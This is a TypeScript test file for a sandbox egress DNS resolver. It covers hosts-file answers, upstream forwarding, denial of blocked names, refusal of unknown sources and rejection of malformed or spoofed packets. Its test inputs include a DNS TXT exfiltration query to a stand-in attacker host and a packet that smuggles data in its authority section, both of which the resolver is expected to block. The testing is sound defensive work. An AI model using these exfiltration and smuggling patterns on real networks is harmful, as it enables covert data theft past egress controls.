// The egress resolver on loopback, in front of a fake upstream DNS server written here (UDP and
// TCP on 127.0.0.1), queried by Node's own resolver and by raw packets: hosts-file answers,
// forwarded answers and what they report, NXDOMAIN for denied names (never sent upstream),
// REFUSED for unknown sources (127.0.0.2), malformed packets and compression loops ignored.
import dgram from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  chainAddresses,
  EgressResolver,
  type AuditDecision,
  type ResolverClient,
} from '../../src/egress/dns/resolver.js'
import {
  addressRecord,
  encodeMessage,
  FLAG,
  parseMessage,
  RCODE,
  TYPE,
  type DnsMessage,
  type DnsRecord,
} from '../../src/egress/dns/message.js'
import { defaultUpstream, parseUpstream } from '../../src/egress/dns/upstream.js'
import { compilePolicy } from '../../src/egress/policy/compile.js'
import { limits } from '../../src/core/limits.js'

const wireName = (name: string) =>
  Buffer.concat([
    ...name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])),
    Buffer.from([0]),
  ])

/** The fake upstream: a few names, and a log of every question it was asked. */
class FakeUpstream {
  readonly asked: string[] = []
  last: DnsMessage | undefined
  udp = dgram.createSocket('udp4')
  tcp = net.createServer((s) => this.serveTcp(s))
  port = 0

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.udp.bind(0, '127.0.0.1', resolve))
    this.port = this.udp.address().port
    await new Promise<void>((resolve) => this.tcp.listen(this.port, '127.0.0.1', resolve))
    this.udp.on('message', (msg, r) => {
      const reply = this.answer(msg, 'udp')
      if (reply) this.udp.send(reply, r.port, r.address)
    })
  }

  private serveTcp(s: net.Socket): void {
    let buf = Buffer.alloc(0)
    s.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d])
      while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        const msg = buf.subarray(2, 2 + buf.readUInt16BE(0))
        buf = buf.subarray(2 + msg.length)
        const reply = this.answer(msg, 'tcp')
        if (reply) s.write(Buffer.concat([Buffer.from([reply.length >> 8, reply.length & 0xff]), reply]))
      }
    })
    s.on('error', () => undefined)
  }

  private answer(raw: Buffer, transport: string): Buffer | undefined {
    const q = parseMessage(raw)
    this.last = q
    const question = q.questions[0]!
    const name = question.name.toLowerCase()
    this.asked.push(`${transport} ${name} ${question.type}`)
    const reply = (rcode: number, answers: DnsRecord[], flags = 0): Buffer =>
      encodeMessage({ ...q, flags: FLAG.QR | FLAG.RD | FLAG.RA | flags | rcode, answers, additionals: [] })
    const a = (owner: string, ip: number[], ttl: number) => addressRecord(owner, Buffer.from(ip), ttl)
    switch (name) {
      case 'fwd.example.com':
        return reply(RCODE.NOERROR, question.type === TYPE.A ? [a(question.name, [192, 0, 2, 10], 30)] : [])
      case 'alias.example.com':
        return reply(RCODE.NOERROR, [
          { name: question.name, type: TYPE.CNAME, class: 1, ttl: 20, data: wireName('fwd.example.com') },
          a('fwd.example.com', [192, 0, 2, 10], 300),
          a('unrelated.example.com', [192, 0, 2, 99], 300),
        ])
      case 'nx.example.com':
        return reply(RCODE.NXDOMAIN, [])
      case 'big.example.com':
        if (transport === 'udp') return reply(RCODE.NOERROR, [], FLAG.TC)
        return reply(
          RCODE.NOERROR,
          Array.from({ length: 60 }, (_, i) => a(question.name, [198, 51, 100, i], 10)),
        )
      case 'spoofed.example.com': {
        // A reply with the wrong ID first (ignored), then the right one.
        const wrong = Buffer.from(reply(RCODE.NOERROR, [a(question.name, [6, 6, 6, 6], 10)]))
        wrong.writeUInt16BE((q.id + 1) & 0xffff, 0)
        return transport === 'udp' ? wrong : reply(RCODE.NOERROR, [])
      }
      default:
        return undefined // slow.*: never answers
    }
  }

  async stop(): Promise<void> {
    this.udp.close()
    await new Promise((resolve) => this.tcp.close(resolve))
  }
}

const policy = compilePolicy({
  mode: 'block-all',
  egress: {
    trafficRules: [
      { name: 'no-secret', action: 'deny', domains: ['secret.example.com'] },
      { name: 'example', action: 'allow', domains: ['*.example.com'] },
    ],
  },
})

let dir: string
let hostsFile: string
let upstream: FakeUpstream
let resolver: EgressResolver
const answers: Array<{ name: string; ips: readonly string[]; ttlS: number }> = []
const audits: AuditDecision[] = []
const client: ResolverClient = {
  policy,
  onAnswer: (name, ips, ttlS) => answers.push({ name, ips, ttlS }),
  audit: (e) => audits.push(e),
}

function dnsClient(local = '127.0.0.1'): Resolver {
  const r = new Resolver({ timeout: 3_000, tries: 1 })
  r.setServers([`127.0.0.1:${resolver.address.port}`])
  r.setLocalAddress(local)
  return r
}

async function code(p: Promise<unknown>): Promise<string> {
  try {
    await p
  } catch (err) {
    return (err as NodeJS.ErrnoException).code ?? String(err)
  }
  return 'resolved'
}

function query(name: string, type = TYPE.A, id = 0x4242): Buffer {
  return encodeMessage({
    id,
    flags: FLAG.RD,
    questions: [{ name, type, class: 1 }],
    answers: [],
    authorities: [],
    additionals: [],
  })
}

/** One raw UDP exchange from `local`; undefined when nothing comes back in `waitMs`. */
async function rawUdp(packet: Buffer, waitMs = 300, local = '127.0.0.1'): Promise<DnsMessage | undefined> {
  const sock = dgram.createSocket('udp4')
  await new Promise<void>((resolve) => sock.bind(0, local, resolve))
  try {
    return await new Promise<DnsMessage | undefined>((resolve) => {
      const timer = setTimeout(() => resolve(undefined), waitMs)
      sock.once('message', (m) => {
        clearTimeout(timer)
        resolve(parseMessage(m))
      })
      sock.send(packet, resolver.address.port, '127.0.0.1')
    })
  } finally {
    sock.close()
  }
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 's0-egress-dns-'))
  hostsFile = path.join(dir, 'hosts')
  await writeFile(
    hostsFile,
    '# test hosts\n10.0.0.5  hosts.example.com  alias-h.example.com\nfd00::5 hosts.example.com\n10.0.0.6 evil.org\n',
  )
  upstream = new FakeUpstream()
  await upstream.start()
  resolver = await EgressResolver.start({
    host: '127.0.0.1',
    port: 0,
    upstream: `127.0.0.1:${upstream.port}`,
    hostsFile,
    hostsCheckIntervalMs: 20,
    upstreamAttemptTimeoutMs: 200,
    upstreamAttempts: 2,
    directory: { lookup: (ip) => (ip === '127.0.0.1' ? client : undefined) },
  })
})

afterAll(async () => {
  await resolver?.close()
  await upstream?.stop()
  await rm(dir, { recursive: true, force: true })
})

describe('EgressResolver', () => {
  it('answers from the hosts file first, and reports the addresses', async () => {
    expect(await dnsClient().resolve4('hosts.example.com')).toEqual(['10.0.0.5'])
    expect(answers.at(-1)).toEqual({
      name: 'hosts.example.com',
      ips: ['10.0.0.5'],
      ttlS: limits.dnsHostsAnswerTtlS,
    })
    expect(audits.at(-1)).toEqual({
      kind: 'dns',
      name: 'hosts.example.com',
      qtype: 'A',
      action: 'allow',
      reason: 'egress.trafficRules[1] "example"; hosts file',
      rcode: 'NOERROR',
      transport: 'udp',
    })
    expect(upstream.asked.some((a) => a.includes('hosts.example.com'))).toBe(false)
  })

  it('reads the hosts file again when it changes', async () => {
    await writeFile(hostsFile, '10.0.0.7 hosts.example.com\n')
    await new Promise((r) => setTimeout(r, 50))
    expect(await dnsClient().resolve4('hosts.example.com')).toEqual(['10.0.0.7'])
    await writeFile(hostsFile, '10.0.0.5 hosts.example.com\n')
  })

  it('forwards the rest upstream and reports A answers through the CNAME chain', async () => {
    expect(await dnsClient().resolve4('fwd.example.com')).toEqual(['192.0.2.10'])
    expect(answers.at(-1)).toEqual({ name: 'fwd.example.com', ips: ['192.0.2.10'], ttlS: 30 })
    expect(audits.at(-1)?.reason).toBe('egress.trafficRules[1] "example"; upstream')
    await dnsClient().resolve4('Alias.Example.com')
    expect(answers.at(-1)).toEqual({ name: 'alias.example.com', ips: ['192.0.2.10'], ttlS: 20 })
    expect(await code(dnsClient().resolve4('nx.example.com'))).toBe('ENOTFOUND')
    expect(audits.at(-1)?.rcode).toBe('NXDOMAIN')
  })

  it('answers NXDOMAIN for a denied name and never asks upstream', async () => {
    const before = upstream.asked.length
    expect(await code(dnsClient().resolve4('secret.example.com'))).toBe('ENOTFOUND')
    expect(audits.at(-1)).toMatchObject({
      name: 'secret.example.com',
      action: 'deny',
      reason: 'egress.trafficRules[0] "no-secret"',
    })
    // Denied by the mode, even though the hosts file knows it.
    expect(await code(dnsClient().resolve4('evil.org'))).toBe('ENOTFOUND')
    expect(audits.at(-1)).toMatchObject({
      name: 'evil.org',
      action: 'deny',
      reason: 'mode block-all',
      rcode: 'NXDOMAIN',
    })
    expect(await code(dnsClient().resolveTxt('exfil-data.attacker.net'))).toBe('ENOTFOUND')
    expect(upstream.asked.length).toBe(before)
  })

  it('answers AAAA with nothing: IPv6 is not routed', async () => {
    expect(await code(dnsClient().resolve6('fwd.example.com'))).toBe('ENODATA')
    expect(audits.at(-1)).toMatchObject({ qtype: 'AAAA', action: 'allow', rcode: 'NOERROR' })
  })

  it('refuses sources it does not know', async () => {
    expect(await code(dnsClient('127.0.0.2').resolve4('fwd.example.com'))).toBe('EREFUSED')
    const r = await rawUdp(query('fwd.example.com'), 1_000, '127.0.0.2')
    expect(r?.flags !== undefined && r.flags & 0xf).toBe(RCODE.REFUSED)
  })

  it('ignores malformed packets and compression loops, and keeps answering', async () => {
    const loop = Buffer.concat([query('x.example.com').subarray(0, 12), Buffer.from([0xc0, 12, 0, 1, 0, 1])])
    expect(await rawUdp(loop)).toBeUndefined()
    expect(await rawUdp(Buffer.from('not dns at all'))).toBeUndefined()
    expect(await rawUdp(query('fwd.example.com').subarray(0, 20))).toBeUndefined()
    const response = Buffer.from(query('fwd.example.com'))
    response.writeUInt16BE(FLAG.QR, 2)
    expect(await rawUdp(response)).toBeUndefined()
    const ok = await rawUdp(query('fwd.example.com'), 2_000)
    expect(ok?.id).toBe(0x4242)
    expect(ok?.answers.length).toBe(1)
  })

  it('sends upstream only the question, not what else the sandbox put in its packet', async () => {
    const ecs = Buffer.from([0, 8, 0, 7, 0, 1, 24, 0, 10, 9, 8]) // an EDNS client-subnet option
    const packet = encodeMessage({
      id: 9,
      flags: FLAG.RD | 0x0010,
      questions: [{ name: 'fwd.example.com', type: TYPE.A, class: 1 }],
      answers: [],
      authorities: [
        {
          name: 'data.to.smuggle',
          type: TYPE.TXT,
          class: 1,
          ttl: 1,
          data: Buffer.from('\x04leak', 'latin1'),
        },
      ],
      additionals: [{ name: '', type: TYPE.OPT, class: 65_000, ttl: 0x8000 | 0x1234, data: ecs }],
    })
    const reply = await rawUdp(packet, 2_000)
    expect(reply?.id).toBe(9)
    expect(reply?.answers.length).toBe(1)
    const sent = upstream.last!
    expect(sent.id).not.toBe(9)
    expect(sent.flags).toBe(FLAG.RD | 0x0010)
    expect(sent.authorities).toEqual([])
    expect(sent.additionals).toEqual([
      { name: '', type: TYPE.OPT, class: 4_096, ttl: 0x8000, data: Buffer.alloc(0) },
    ])
  })

  it('answers over TCP, and passes a truncated UDP answer on for the client to retry over TCP', async () => {
    const big = await dnsClient().resolve4('big.example.com')
    expect(big.length).toBe(60)
    expect(upstream.asked.filter((a) => a.endsWith('big.example.com 1'))).toEqual([
      'udp big.example.com 1',
      'tcp big.example.com 1',
    ])
    expect(answers.at(-1)?.ips.length).toBe(60)
  })

  it('takes only the reply that matches its query', async () => {
    // Over UDP the fake sends only a wrong-ID reply: it is ignored, the query fails.
    expect(await code(dnsClient().resolve4('spoofed.example.com'))).toBe('ESERVFAIL')
    expect(audits.at(-1)).toMatchObject({ action: 'error', rcode: 'SERVFAIL' })
    expect(answers.some((a) => a.name === 'spoofed.example.com')).toBe(false)
  })

  it('answers SERVFAIL when upstream is silent, and bounds the queries one sandbox has in flight', async () => {
    const n = limits.dnsUpstreamInFlightPerSourceMax + 8
    const replies = await Promise.all(
      Array.from({ length: n }, (_, i) => rawUdp(query(`slow${i}.example.com`, TYPE.A, i), 3_000)),
    )
    expect(replies.every((r) => r !== undefined && (r.flags & 0xf) === RCODE.SERVFAIL)).toBe(true)
    const refused = audits.filter(
      (a) => a.name.startsWith('slow') && a.reason.endsWith('too many queries in flight'),
    )
    // 8 when all arrive while the first 32 wait (400 ms); a loaded host may spread them out.
    expect(refused.length).toBeGreaterThanOrEqual(1)
    expect(refused.length).toBeLessThanOrEqual(8)
  })
})

describe('upstream addresses', () => {
  it('parses address[:port] and takes the first nameserver of resolv.conf', async () => {
    expect(parseUpstream('10.0.0.53')).toEqual({ host: '10.0.0.53', port: 53, family: 4 })
    expect(parseUpstream('[fd00::53]:5353')).toEqual({ host: 'fd00::53', port: 5353, family: 6 })
    expect(() => parseUpstream('dns.example.com')).toThrow(/is not address\[:port\]/)
    const conf = path.join(dir, 'resolv.conf')
    await writeFile(conf, '# generated\nsearch x\nnameserver fe80::1%eth0\nnameserver 10.0.0.2\n')
    expect(await defaultUpstream(conf)).toEqual({ host: 'fe80::1', port: 53, family: 6 })
    await writeFile(conf, 'search x\n')
    await expect(defaultUpstream(conf)).rejects.toThrow(/no nameserver/)
  })

  it('follows CNAME chains in either order, and only from the question', () => {
    const cname = (from: string, to: string, ttl: number): DnsRecord => ({
      name: from,
      type: TYPE.CNAME,
      class: 1,
      ttl,
      data: wireName(to),
    })
    const a = (owner: string, last: number, ttl: number) =>
      addressRecord(owner, Buffer.from([192, 0, 2, last]), ttl)
    expect(
      chainAddresses('a.x', [
        a('c.x', 1, 50),
        cname('b.x', 'c.x', 40),
        cname('a.x', 'b.x', 60),
        a('d.x', 2, 1),
      ]),
    ).toEqual({
      ips: ['192.0.2.1'],
      ttlS: 40,
    })
    expect(chainAddresses('a.x', [cname('a.x', 'a.x', 5)])).toEqual({ ips: [], ttlS: 0 })
  })
})
